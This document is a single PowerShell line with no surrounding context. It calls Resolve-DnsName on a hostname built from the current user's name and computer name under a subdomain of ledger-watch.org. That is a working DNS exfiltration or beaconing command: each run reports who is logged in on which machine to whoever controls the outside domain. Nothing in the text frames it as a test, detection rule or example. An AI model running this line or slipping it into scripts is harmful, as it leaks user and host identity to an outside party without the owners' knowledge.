Resolve-DnsName "$env:USERNAME.$env:COMPUTERNAME.x.ledger-watch.org"
